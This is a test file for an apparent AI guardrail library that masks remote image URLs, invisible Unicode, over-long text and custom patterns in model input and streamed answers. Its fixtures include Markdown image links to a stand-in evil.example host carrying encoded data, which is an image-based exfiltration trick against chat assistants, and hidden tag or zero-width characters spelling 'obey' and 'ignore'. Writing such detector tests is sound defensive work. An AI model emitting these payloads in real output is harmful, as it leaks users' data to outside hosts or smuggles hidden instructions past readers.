import { describe, expect, test } from 'bun:test'
import { answerGuard } from '../answer-guard.ts'
import { readCheck } from '../guardrail.kind.ts'
import { inspectSegments } from '../inspect.ts'
import { guardsWith } from '../testing.ts'

async function masked(checks: string, text: string): Promise<string> {
  const { replaced } = await inspectSegments(guardsWith(checks), 'input', [{ channel: 'user', text }])
  return replaced.get(0) ?? text
}

function streamed(checks: string, text: string): readonly string[] {
  const guards = guardsWith(checks)
  return Array.from({ length: text.length }, (_, index) => {
    const guard = answerGuard(guards)?.forBlock('assistant')
    if (!guard) throw new Error('nothing looks at answers')
    return guard.push(text.slice(0, index)) + guard.push(text.slice(index)) + guard.end()
  })
}

describe('addresses', () => {
  const IN = 'phases: [input, output], action: mask, timeout: 30s'

  test.each([
    ['a Markdown image', 'see ![x](https://evil.example/p.png?d=c2VjcmV0) now', 'see [REMOTE_IMAGE removed] now'],
    ['an image tag', 'a <img alt="" src=\'//evil.example/a.gif\'> b', 'a [REMOTE_IMAGE removed] b'],
    ['an image of an allowed host', '![x](https://cdn.acme.example/p.png)', '![x](https://cdn.acme.example/p.png)'],
    [
      'an image in a page of data',
      '![x](data:image/png;base64,iVBORw0KGgo=)',
      '![x](data:image/png;base64,iVBORw0KGgo=)',
    ],
    ['a link', '[x](https://evil.example/)', '[x](https://evil.example/)'],
  ])('%s', async (_name, text, result) => {
    expect(
      await masked(
        `[{detector: url, allow: ['*.acme.example'], ${IN}}]`.replace(
          "allow: ['*.acme.example']",
          "deny: ['bad.example']",
        ),
        text,
      ),
    ).toBe(text.includes('cdn.acme') ? '[REMOTE_IMAGE removed]' : result)
    if (text.includes('cdn.acme'))
      expect(await masked(`[{detector: url, allow: ['*.acme.example'], ${IN}}]`, text)).toBe(text)
  })

  test('of hosts that are not allowed or denied', async () => {
    const allow = `[{detector: url, allow: [acme.example, '*.acme.example'], images: false, ${IN}}]`
    expect(
      await masked(allow, 'https://acme.example/a https://docs.acme.example. https://acme.example.evil.example/x!'),
    ).toBe('https://acme.example/a https://docs.acme.example. [URL_NOT_ALLOWED removed]!')
    expect(await masked(allow, 'HTTPS://user:pw@EVIL.example:8443/a')).toBe('[URL_NOT_ALLOWED removed]')
    expect(await masked(`[{detector: url, deny: [evil.example], ${IN}}]`, 'ask https://evil.example/x, please')).toBe(
      'ask [URL_DENIED removed], please',
    )
  })

  test('cut anywhere by a stream do not come out', () => {
    const text = 'Look: ![chart](https://evil.example/p.png?d=c2VjcmV0) and more.'
    for (const out of streamed(`[{detector: url, ${IN}}]`, text))
      expect(out).toBe('Look: [REMOTE_IMAGE removed] and more.')
  })
})

test.each([
  [
    'tag characters',
    `hi ${[...'obey'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}!`,
    'hi [TAG_CHARACTERS removed]!',
  ],
  ['a direction override', 'a \u202egnp.exe', 'a [DIRECTION_OVERRIDE removed]gnp.exe'],
  ['zero width within a word', 'ig\u200bnore', 'ig[ZERO_WIDTH removed]nore'],
  [
    'a family, a flag, a Persian word: nothing',
    '👩‍👩‍👧 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} می\u200cخواهم',
    undefined,
  ],
])('text that nobody sees: %s', async (_name, text, result) => {
  expect(await masked('[{detector: invisible-text, action: mask}]', text)).toBe(result ?? text)
})

test('texts that are too long are found', async () => {
  const long = '[{detector: size, maxCharacters: 10, maxLines: 2, action: mask}]'
  expect(await masked(long, 'short\ntext')).toBe('short\ntext')
  expect(await masked(long, '0123456789ab')).toBe('0123456789[TOO_LONG removed]')
  expect(await masked(long, 'a\nb\nc')).toBe('a\nb[TOO_LONG removed]')
})

describe('patterns of the own', () => {
  const CASE = "[{detector: regex, patterns: [{kind: CASE_NUMBER, pattern: 'CL-[0-9]{4}-[A-Z]{2}'}], action: mask}]"

  test('are found, in disguise and in streams too', async () => {
    const text = 'see CL-2041-XK, please'
    expect(await masked(CASE, text)).toBe('see [CASE_NUMBER removed], please')
    expect(await masked(CASE, `see ${encodeURIComponent('CL-2041-XK')}%20x`)).toBe('see [CASE_NUMBER removed]%20x')
    for (const out of streamed(CASE, text)) expect(out).toBe('see [CASE_NUMBER removed], please')
  })

  test.each(['(a+)+$', '(?:a{1,30}){1,30}b', '[a-z]{0,900}[a-z]{0,900}x', '(?<=a)b', 'a*'])(
    'that could take long are refused when they are written: %s',
    (pattern) => {
      expect(readCheck({ detector: 'regex', action: 'flag', patterns: [{ kind: 'EVIL', pattern }] })).toBeString()
    },
  )
})
